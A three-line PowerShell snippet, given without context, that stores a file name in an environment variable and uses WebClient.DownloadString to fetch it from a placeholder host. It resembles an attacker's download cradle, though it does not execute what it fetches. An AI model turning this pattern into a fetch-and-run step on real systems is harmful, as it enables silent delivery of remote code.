$env:zq='x.txt'
$wc = New-Object System.Net.WebClient
$wc.DownloadString("http://a.example/$($env:zq)")
